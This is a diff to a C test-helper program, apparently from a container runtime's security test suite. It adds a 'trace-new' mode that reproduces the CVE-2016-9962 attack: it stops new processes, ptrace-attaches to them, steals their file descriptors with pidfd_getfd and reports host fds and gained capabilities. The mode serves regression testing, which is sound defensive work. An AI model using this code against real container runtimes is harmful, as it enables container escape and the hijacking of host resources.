@@ -48,11 +48,23 @@
  *                       (on the host) a seccomp agent for listenerPath: the
  *                       first listener's notifications are let through at
  *                       once; the second's (an exec'd process) after
- *                       SECONDS, "held PID" written to OUT meanwhile
+ *                       SECONDS, "held PID" written to OUT meanwhile (later
+ *                       ones, as a restarted call, at once)
  *   probe exec PATH     execve(PATH) with no arguments; prints the errno
  *                       name if that fails
  *   probe bind PORT     binds a TCP socket to PORT; prints "ok" or the errno
  *   probe kill PID      kill(PID, 0); prints "ok" or the errno name
+ *   probe trace-new SECONDS cont|hold|stop
+ *                       the CVE-2016-9962 attacker: for SECONDS, every new
+ *                       process is SIGSTOPped at once, ptrace-attached, its
+ *                       capabilities read ("gained PID MASK" when beyond
+ *                       the probe's own bounding set), fds 3..64 taken with
+ *                       pidfd_getfd and its /proc/PID/fd links read
+ *                       ("hostfd PID FD TARGET" for anything but a pipe, a
+ *                       socket, /dev/null or a pty); "saw PID" per process.
+ *                       cont: then detaches and continues it; hold: the
+ *                       same, but keeps the stolen fds; stop: leaves it
+ *                       stopped and keeps the stolen fds. "done" at the end
  *   probe recvtty SOCKET OUT
  *                       (on the host) the engine's side of --console-socket:
  *                       listens on SOCKET, takes the pty master sent over it,
@@ -61,6 +73,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -70,11 +83,13 @@
 #include <linux/reboot.h>
 #include <sys/ioctl.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/time.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -263,14 +278,14 @@ static int take_listener(int lfd)
 	return fd;
 }
 
-static void let_through(int listener, int delay, const char *out)
+static int let_through(int listener, int delay, const char *out)
 {
 	struct seccomp_notif req;
 	struct seccomp_notif_resp resp;
 
 	memset(&req, 0, sizeof(req));
 	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
-		return;
+		return -1;
 	if (delay) {
 		FILE *f = fopen(out, "w");
 		if (f) {
@@ -283,6 +298,7 @@ static void let_through(int listener, int delay, const char *out)
 	resp.id = req.id;
 	resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
 	ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+	return 0;
 }
 
 static int seccomp_hold(const char *sock, const char *out, int delay)
@@ -303,7 +319,14 @@ static int seccomp_hold(const char *sock, const char *out, int delay)
 	second = take_listener(lfd);
 	if (second < 0)
 		return perror("seccomp-hold: second listener"), 2;
-	let_through(second, delay, out);
+	/* ENOENT: the call was interrupted (a stopped process) before we took
+	 * it; it comes again. */
+	while (let_through(second, delay, out) < 0 && errno == ENOENT)
+		;
+	/* A call interrupted by a signal (a stopped process) comes again:
+	 * let those through at once, until the process is gone. */
+	while (let_through(second, 0, out) == 0)
+		;
 	return 0;
 }
 
@@ -589,8 +612,112 @@ static int try_kill(pid_t pid)
 	return printf("ok\n"), 0;
 }
 
+static unsigned long long cap_of(pid_t pid, const char *field)
+{
+	char path[64], line[256];
+	unsigned long long v = 0;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/status", pid);
+	f = fopen(path, "r");
+	while (f && fgets(line, sizeof(line), f))
+		if (!strncmp(line, field, strlen(field)))
+			v = strtoull(line + strlen(field), NULL, 16);
+	if (f)
+		fclose(f);
+	return v;
+}
+
+/* What a stolen or visible fd leads to: the container may have pipes,
+ * sockets, /dev/null and ptys; anything else is the runtime's. */
+static void report_fd(const char *kind, pid_t pid, int fd, const char *target)
+{
+	bool fine = !strncmp(target, "pipe:", 5) || !strncmp(target, "socket:", 7) ||
+		    !strcmp(target, "/dev/null") || !strncmp(target, "/dev/pts/", 9);
+
+	printf("%s %d %d %s\n", fine ? kind : "hostfd", pid, fd, target);
+}
+
+static void inspect(pid_t pid, unsigned long long bounding, bool keep, bool stop)
+{
+	char path[300], target[512];
+	int pidfd, attached;
+	struct dirent *e;
+	DIR *d;
+
+	kill(pid, SIGSTOP);
+	/* Attached and in a ptrace-stop, so that it can be let go again. */
+	attached = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 &&
+		   ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, NULL, __WALL) == pid;
+	printf("saw %d%s\n", pid, attached ? " attached" : "");
+	unsigned long long caps = cap_of(pid, "CapEff:") | cap_of(pid, "CapPrm:");
+	if (caps & ~bounding)
+		printf("gained %d %llx\n", pid, caps);
+	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+	for (int fd = 3; fd <= 64 && pidfd >= 0; fd++) {
+		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+		if (got < 0)
+			continue;
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", got);
+		ssize_t n = readlink(path, target, sizeof(target) - 1);
+		target[n > 0 ? n : 0] = '\0';
+		report_fd("stole", pid, fd, target);
+		if (!keep)
+			close(got);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+	d = opendir(path);
+	while (d && (e = readdir(d))) {
+		if (atoi(e->d_name) <= 2)
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
+		ssize_t n = readlink(path, target, sizeof(target) - 1);
+		target[n > 0 ? n : 0] = '\0';
+		report_fd("fd", pid, atoi(e->d_name), target);
+	}
+	if (d)
+		closedir(d);
+	if (pidfd >= 0 && !keep)
+		close(pidfd);
+	if (!stop) {
+		if (attached)
+			ptrace(PTRACE_DETACH, pid, 0, 0);
+		kill(pid, SIGCONT);
+	}
+}
+
+static int trace_new(int seconds, const char *mode)
+{
+	static char seen[1 << 22];
+	unsigned long long bounding = cap_of(getpid(), "CapBnd:");
+	time_t end = time(NULL) + seconds;
+	bool first = true;
+
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (d && (e = readdir(d))) {
+			int pid = atoi(e->d_name);
+			if (pid <= 0 || pid >= (int)sizeof(seen) || seen[pid])
+				continue;
+			seen[pid] = 1;
+			if (!first && pid != getpid())
+				inspect(pid, bounding, strcmp(mode, "cont") != 0,
+					!strcmp(mode, "stop"));
+		}
+		if (d)
+			closedir(d);
+		first = false;
+	}
+	printf("done\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
+	if (argc >= 4 && !strcmp(argv[1], "trace-new"))
+		return trace_new(atoi(argv[2]), argv[3]);
 	if (argc >= 3 && !strcmp(argv[1], "exe-watch"))
 		return exe_watch(atoi(argv[2]));
 	if (argc >= 5 && !strcmp(argv[1], "seccomp-hold"))
